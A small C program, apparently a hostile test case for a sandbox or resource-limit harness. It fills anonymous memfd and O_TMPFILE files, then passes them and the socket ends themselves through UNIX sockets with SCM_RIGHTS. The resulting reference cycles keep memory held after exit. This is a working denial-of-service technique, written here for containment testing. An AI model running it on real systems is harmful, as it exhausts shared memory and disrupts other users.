// Attacks: the next run's memory: files without names travel in circles through sockets that nobody holds.
#include "../hostile.h"
static void send_fd(int to, int fd) {
  char byte = 'x', room[CMSG_SPACE(sizeof fd)] = {0};
  struct iovec vector = {&byte, 1};
  struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(head), &fd, sizeof fd);
  sendmsg(to, &message, MSG_DONTWAIT);
}
int main(void) {
  static char block[1 << 20];
  for (int i = 0; i < 10; i++) {
    int ends[2], file = i % 2 ? memfd_create("x", 0) : open("/box", O_TMPFILE | O_RDWR, 0600);
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, ends) != 0) break;
    for (int m = 0; m < 4; m++) write_all(file, block, sizeof block);
    send_fd(ends[0], file), send_fd(ends[0], ends[0]), send_fd(ends[0], ends[1]);
    close(file), close(ends[0]), close(ends[1]);
  }
  return 0;
}
